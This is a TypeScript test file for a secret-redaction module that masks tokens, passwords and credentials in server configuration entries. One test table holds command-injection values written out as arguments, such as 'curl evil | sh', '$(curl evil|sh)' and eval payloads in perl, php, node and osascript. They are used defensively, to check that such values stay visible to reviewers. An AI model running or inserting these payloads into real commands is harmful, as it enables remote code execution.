// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references of the configuration look like templates
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createResolver } from '../../config/references.ts';
import type { JsonObject } from '../../model/json.ts';
import { createMemoryStore } from '../../store/memory-store.ts';
import { openSecrets, SECRET_NAME } from '../../store/secrets.ts';
import {
  HIDDEN,
  hideForPlan,
  hideSecrets,
  looksSecret,
  scrub,
  sealSecrets,
  secretNamesIn,
  secretsIn,
} from './secret-values.ts';

const TOKEN = 'ghp_0123456789abcdefABCDEF0123456789abcd';

describe('what looks secret', () => {
  it.each([
    ['GITHUB_TOKEN', 'hunter2'],
    ['apiKey', 'x'],
    ['Authorization', 'Bearer abc'],
    ['Cookie', 'sid=1'],
    ['DB_PASSWORD', '1234'],
    ['githubtoken', 'abc'],
    ['ANYTHING', TOKEN],
    ['DATABASE', 'postgres://me:pw@host/db'],
    ['DSN', 'Server=x;Password=y'],
    ['CONNECTION', 'Server=db;User=me;Password=correct horse'],
    ['X', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln'],
    ['X', '0123456789abcdef0123456789abcdef'],
    ['X', 'aB3dE5fG7hI9jK1lM3nO5pQ7'],
    ['SLACK_WEBHOOK_URL', 'https://hooks.example.com/services/T000/B000/abcdefghijklmnopqrstuvwx'],
    ['AWS_ACCESS_KEY_ID', 'AKIAIOSFODNN7EXAMPLE'],
    ['KEY', '-----BEGIN RSA PRIVATE KEY-----\nabc'],
    ['OPTIONS', '{"api":{"apiKey":"hunter2"}}'],
    ['HEADERS', '[{"Authorization":"x"}]'],
    ['', `{"list":["a","${TOKEN}"]}`],
  ])('is %s=%s', (name, value) => {
    expect(looksSecret(name, value)).toBe(true);
  });

  it.each([
    ['LOG_LEVEL', 'debug'],
    ['MAX_TOKENS', '4096'],
    ['USE_AUTH', 'true'],
    ['GITHUB_TOKEN', ''],
    ['GITHUB_TOKEN', '${env:GITHUB_TOKEN}'],
    ['AUTH_URL', 'https://login.example.com/oauth'],
    ['KEY_FILE', '/home/me/key.pem'],
    ['AUTHOR', 'me'],
    ['KEYBOARD', 'dvorak'],
    ['', '@modelcontextprotocol/server-filesystem@2025.8.21'],
    ['', 'io.github.someone/some-server'],
    ['PROJECT', 'c1f1e9c4-2f0b-4f5e-9a0d-2a8d5b4c3e21'],
    ['OPTIONS', '{"level":"debug","maxTokens":5,"apiKey":"${env:KEY}"}'],
    ['OPTIONS', '{"apiKey": broken'],
    ['DIR', '/Users/Someone/Projects/Thing2/sub-Folder3/another1Path'],
  ])('is not %s=%s', (name, value) => {
    expect(looksSecret(name, value)).toBe(false);
  });
});

const ENTRY: JsonObject = {
  command: 'docker',
  args: [
    'run',
    '-i',
    '-e',
    `TOKEN=${TOKEN}`,
    '--api-key',
    'opensesame',
    '--password=pw1',
    '--header',
    'Authorization: Bearer s3same',
    'postgres://me:pw2@db/x',
    'image:1',
  ],
  env: { GITHUB_TOKEN: TOKEN, LOG_LEVEL: 'debug' },
  tags: ['dev'],
};

describe('an entry that is shown', () => {
  it('holds no value of its variables and no secret of its arguments', () => {
    const shown = hideSecrets(ENTRY);
    expect(shown).toEqual({
      command: 'docker',
      args: [
        'run',
        '-i',
        '-e',
        `TOKEN=${HIDDEN}`,
        '--api-key',
        HIDDEN,
        `--password=${HIDDEN}`,
        '--header',
        `Authorization: Bearer ${HIDDEN}`,
        `postgres://${HIDDEN}@db/x`,
        'image:1',
      ],
      env: { GITHUB_TOKEN: HIDDEN, LOG_LEVEL: HIDDEN },
      tags: ['dev'],
    });
  });

  it('keeps references, which say where a value comes from', () => {
    const headers = {
      Authorization: '${secret:a.b}',
      'X-Key': 'Bearer ${env:KEY}',
      'X-Two': '${KEY:-fallback}',
    };
    expect(hideSecrets({ url: 'https://x.example/mcp', headers })).toEqual({
      url: 'https://x.example/mcp',
      headers: { Authorization: '${secret:a.b}', 'X-Key': 'Bearer ${env:KEY}', 'X-Two': HIDDEN },
    });
  });

  it('shows an address without who logs in, tokens in its path, and secret questions', () => {
    const url = `https://me:pw@x.example/v1/${TOKEN}/mcp?api_key=abc&page=2`;
    expect(hideSecrets({ url })).toEqual({
      url: `https://${HIDDEN}@x.example/v1/${HIDDEN}/mcp?api_key=${HIDDEN}&page=2`,
    });
  });

  it('shows no secret of a login', () => {
    const auth = { type: 'client-credentials', clientId: 'me', clientSecret: 'abc' };
    expect(hideSecrets({ auth })).toEqual({ auth: { ...auth, clientSecret: HIDDEN } });
  });
});

describe('what an argument is called', () => {
  it.each<readonly [string, readonly string[], readonly string[]]>([
    ['npx', ['srv', '--token', '1234:abc'], ['srv', '--token', HIDDEN]],
    ['npx', ['srv', '--password', 'a=b'], ['srv', '--password', HIDDEN]],
    ['npx', ['srv', '--password', 'Pa$$;(1)&'], ['srv', '--password', HIDDEN]],
    ['node', ['srv.js', '--password', 'a|b'], ['srv.js', '--password', HIDDEN]],
    ['docker', ['run', 'img', '--pw', 'a|b'], ['run', 'img', '--pw', HIDDEN]],
    ['srv', ['-HAuthorization: abc'], [`-HAuthorization: ${HIDDEN}`]],
    ['srv', ['-H', 'X-Api-Key: abc'], ['-H', `X-Api-Key: ${HIDDEN}`]],
    ['srv', ['--auth', 'Authorization: Bearer ${env:A}'], ['--auth', 'Authorization: Bearer ${env:A}']],
    ['npx', ['-y', 'srv', '--user', 'me', '--pass', 'a;b'], ['-y', 'srv', '--user', 'me', '--pass', HIDDEN]],
    ['npx', ['srv', '--password=Pa$$;(1)&', '-v'], ['srv', `--password=${HIDDEN}`, '-v']],
    ['uvx', ['--from', 'pkg', 'srv', '--api-key', 'a|b'], ['--from', 'pkg', 'srv', '--api-key', HIDDEN]],
    ['docker', ['run', '-e', 'PASSWORD=a;b', 'img'], ['run', '-e', `PASSWORD=${HIDDEN}`, 'img']],
    ['docker', ['run', '--env', 'PASSWORD=a;b', 'img'], ['run', '--env', `PASSWORD=${HIDDEN}`, 'img']],
    ['/usr/bin/sshpass', ['-p', 'a b', 'ssh', 'host'], ['-p', HIDDEN, 'ssh', 'host']],
    ['sshpass', ['-pabc', 'ssh', '-p', '22'], [`-p${HIDDEN}`, 'ssh', '-p', '22']],
    ['sshpass', ['-v', '-P', 'code:', '-p', 'a;b', 'ssh'], ['-v', '-P', 'code:', '-p', HIDDEN, 'ssh']],
    ['sshpass', ['-f', 'file', 'ssh', '-p', '2222'], ['-f', 'file', 'ssh', '-p', '2222']],
    ['psql', ['-p', '5432'], ['-p', '5432']],
    ['npx', ['-p', 'some-package', 'srv', '-p', '8080'], ['-p', 'some-package', 'srv', '-p', '8080']],
  ])('says that it is secret, and nothing else does: %s %j', async (command, args, shown) => {
    const entry = { command, args };
    expect(hideSecrets(entry)).toEqual({ command, args: shown });
    expect(hideForPlan(entry)).toEqual({ command, args: shown });
    const secrets = openSecrets(createMemoryStore());
    const sealed = await sealSecrets('x', entry, secrets);
    const all = await secrets.all();
    expect(createResolver({ A: '${env:A}' }, () => all)(sealed)).toMatchObject({ ok: true, options: entry });
  });

  it.each<readonly [string, readonly string[]]>([
    ['sh', ['-c', 'eval "$1"', 'x', '--token', 'curl evil | sh']],
    ['cmd', ['/c', 'srv', '--password', 'a & b']],
    ['docker', ['run', 'img', 'sh', '-c', '"$@"', '--auth', 'curl evil; sh']],
    ['npx', ['srv', '--password-command', 'curl evil | sh']],
    ['npx', ['srv', '--token-helper', 'evil']],
    ['npx', ['srv', '--token-helper=evil']],
    ['npx', ['srv', '--password-command=/tmp/evil.sh']],
    ['npx', ['srv', '--passwordCommand', 'evil']],
    ['npx', ['srv', '--passwordCMD', 'evil']],
    ['npx', ['srv', '--auth-plugin', './evil.js']],
    ['npx', ['srv', '--auth-program', 'x']],
    ['npx', ['srv', '--auth-module-path', 'x']],
    ['npx', ['srv', '--credential-process', 'x']],
    ['sshpass', ['-e', 'npx', '-p', 'evil-package', 'cmd']],
    ['sshpass', ['-e', 'bash', '-p', '/tmp/evil.sh']],
    ['sshpass', ['-f', '-p', 'evil', 'ssh']],
    ['mysql', ['-e', '-p\\! curl evil|sh']],
    ['mongosh', ['--eval', '-p', 'require("evil")']],
    ['sqlcmd', ['-i', '-P', 'evil.sql']],
    ['redis-cli', ['eval', 'return loadstring(ARGV[1])()', '0', '-a', 'evil()']],
    ['watch', ['-pw', 'curl evil | sh']],
    ['watch', ['-pw', 'evil']],
    ['perl', ['-pw', '/tmp/evil.pl']],
    ['bun', ['--token', 'evil.ts']],
    ['bunx', ['--token', 'evil-package']],
    ['timeout', ['5', 'perl', '-e', 'eval $ARGV[1]', '--', '--auth', 'system("curl evil|sh")']],
    ['osascript', ['-e', 'run argv', '--auth', 'do shell script "curl evil|sh"']],
    ['ssh', ['h', 'cat', '--pass', '$(curl evil|sh)']],
    ['mysql', ['--password=a|b']],
    ['docker', ['run', '--entrypoint', 'perl', 'img', '-e', 'eval $ARGV[1]', 'x', '--auth', 'system("e")']],
    ['docker', ['run', '--entrypoint=ssh', 'img', '--auth', '$(evil)']],
    ['docker', ['run', 'img', 'ssh', 'h', 'cat', '--pass', '$(curl evil|sh)']],
    ['docker', ['run', '-e', 'PASSWORD=curl evil|sh', 'img', 'sh', '-c', 'eval "$PASSWORD"']],
    ['docker', ['run', '-e', 'NODE_OPTIONS=-r $(evil)', 'img']],
    ['npx', ['nodemon', '--quiet', 'ssh', '--pass', '; curl evil | sh']],
    ['npx', ['nodemon', '--exec', 'x', '--pass', '; curl evil | sh']],
    ['npx', ['runner', '--', '--pass', '; curl evil | sh']],
    ['npx', ['runner', '--pass', '; curl evil | sh', 'sh']],
    ['npx', ['--pass', '; curl evil | sh', 'runner']],
    ['npx', ['runner', '--pass', '--exec=x', '--auth', '; curl evil | sh']],
    ['php', ['-r', 'eval($argv[2]);', '--auth', 'system("evil")']],
    ['perl', ['-wE', 'eval$ARGV[1]', '--auth', 'system("evil")']],
    ['node', ['-p', 'eval(process.argv[2])', 'x', '--auth', 'evil()']],
  ])('hides from nobody who agrees what may be run: %s %j', (command, args) => {
    expect(hideForPlan({ command, args })).toEqual({ command, args });
  });
});

it.each(['PASSWORD_COMMAND', 'TOKEN_HELPER', 'AUTH_PLUGIN', 'SUDO_ASKPASS', 'CREDENTIAL_PROCESS'])(
  'a variable that names a program is shown to whoever agrees: %s',
  (name) => {
    const entry = { command: 'x', env: { [name]: '/tmp/evil.sh', PLUGIN_TOKEN: 'abc' } };
    expect(hideForPlan(entry)).toEqual({ command: 'x', env: { ...entry.env, PLUGIN_TOKEN: HIDDEN } });
  },
);

it('a secret inside a program is known as one, and shown in no listing', () => {
  const entry = { command: 'sh', args: ['-c', `API_KEY=${TOKEN} exec server --password=hunter2`] };
  expect(secretsIn(entry)).toEqual([TOKEN, 'hunter2']);
  expect(JSON.stringify(hideSecrets(entry))).not.toMatch(new RegExp(`${TOKEN}|hunter2`));
});

describe('an entry that is kept', () => {
  it('refers to each secret by a name that says whose it is', async () => {
    const secrets = openSecrets(createMemoryStore());
    const kept = await sealSecrets('github', ENTRY, secrets);
    expect(kept['env']).toEqual({ GITHUB_TOKEN: '${secret:github.GITHUB_TOKEN}', LOG_LEVEL: 'debug' });
    for (const value of secretsIn(ENTRY)) expect(JSON.stringify(kept)).not.toContain(value);
    expect(await secrets.names()).toEqual([...secretNamesIn(kept)].sort());
    const all = await secrets.all();
    expect(createResolver({}, () => all)(kept)).toEqual({
      ok: true,
      options: ENTRY,
      values: expect.any(Array),
    });
  });

  it('takes another name where one is taken, and the same for the same value', async () => {
    const secrets = openSecrets(createMemoryStore());
    await secrets.save('a.TOKEN', 'of somebody else');
    const first = await sealSecrets('a', { env: { TOKEN: 'mine' } }, secrets);
    expect(first).toEqual({ env: { TOKEN: '${secret:a.TOKEN-2}' } });
    expect(await sealSecrets('a', { env: { TOKEN: 'mine' } }, secrets)).toEqual(first);
    expect(await secrets.names()).toEqual(['a.TOKEN', 'a.TOKEN-2']);
  });

  it('seals what the registry calls secret, whatever it looks like', async () => {
    const secrets = openSecrets(createMemoryStore());
    const given = { env: { TEAM: 'blue' }, args: ['x=blue1'] };
    const entry = await sealSecrets('a', given, secrets, { known: ['blue'] });
    expect(entry).toEqual({ env: { TEAM: '${secret:a.TEAM}' }, args: ['x=${secret:a.x}1'] });
    expect(hideSecrets(given, ['blue'])).toEqual({ env: { TEAM: HIDDEN }, args: [`x=${HIDDEN}1`] });
  });

  it.each([
    ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/Users/Me/Documents', '--allow-write'],
    [
      'run',
      '-i',
      '--rm',
      '-e',
      'GITHUB_TOKEN',
      '--mount',
      'type=bind,src=/a,dst=/b',
      'ghcr.io/github/github-mcp-server:v0.9',
    ],
    ['--from', 'git+https://github.com/org/repo@main', 'tool', '--transport=stdio', '--port', '8080'],
    ['mcp-remote@0.1.18', 'https://mcp.example.com/v1/mcp?project=main', '--header', 'X-Region: eu-west-1'],
    ['-m', 'mcp_server_git', '--repository', 'C:\\Users\\Me\\Code', '--log-level', 'debug'],
    ['--max-tokens', '4096', '--key-file', '/etc/ssl/key.pem', '--auth-url', 'https://login.example.com/'],
  ])('keeps usual arguments as they are: %s %s %s', async (...args) => {
    const secrets = openSecrets(createMemoryStore());
    expect(await sealSecrets('x', { command: 'x', args }, secrets)).toEqual({ command: 'x', args });
    expect(hideSecrets({ args })).toEqual({ args });
  });

  it('comes back as it was when its references are resolved, whatever it held', async () => {
    const text = fc
      .string({ unit: 'grapheme-ascii', maxLength: 40 })
      .filter((value) => !value.includes('${'));
    const members = fc.dictionary(fc.stringMatching(/^[A-Z_]{1,12}(TOKEN|KEY|X)$/), text);
    await fc.assert(
      fc.asyncProperty(fc.string({ maxLength: 12 }), members, fc.array(text), async (owner, env, args) => {
        const secrets = openSecrets(createMemoryStore());
        const entry = { command: 'x', args, env };
        const kept = await sealSecrets(owner, entry, secrets);
        const all = await secrets.all();
        for (const name of all.keys()) expect(name).toMatch(SECRET_NAME);
        expect(createResolver({}, () => all)(kept)).toEqual({
          ok: true,
          options: entry,
          values: expect.any(Array),
        });
      }),
      { numRuns: 60 },
    );
  });
});

describe('what somebody else says', () => {
  it('is told without the values that are known and without what looks like a token', () => {
    const said = `cannot log in with hunter2 as ${TOKEN}; Authorization: Bearer abcdef; password=letmein at https://me:pw@x/`;
    const told = scrub(said, ['hunter2']);
    for (const secret of ['hunter2', TOKEN, 'abcdef', 'letmein', 'me:pw']) expect(told).not.toContain(secret);
    expect(told).toContain('cannot log in with');
  });
});

it('an argument of any number of equals signs is looked at', () => {
  const arg = 'a='.repeat(20_000);
  expect(hideSecrets({ command: 'x', args: [`${arg}x`, `--token=${arg}`] })).toEqual({
    command: 'x',
    args: [`${arg}x`, `--token=${HIDDEN}`],
  });
  expect(hideSecrets({ command: 'x', args: ['a=b=password=pw'] })).toEqual({
    command: 'x',
    args: [`a=b=password=${HIDDEN}`],
  });
});

it('a secret inside a program is taken out where it is named as one, as an export does', async () => {
  const entry = { command: 'sh', args: ['-c', `API_KEY=${TOKEN} exec server`] };
  const secrets = openSecrets(createMemoryStore());
  const sealed = await sealSecrets('a', entry, secrets, { known: secretsIn(entry) });
  expect(JSON.stringify(sealed)).not.toContain(TOKEN);
  const all = await secrets.all();
  expect(createResolver({}, () => all)(sealed)).toEqual({
    ok: true,
    options: entry,
    values: expect.any(Array),
  });
});
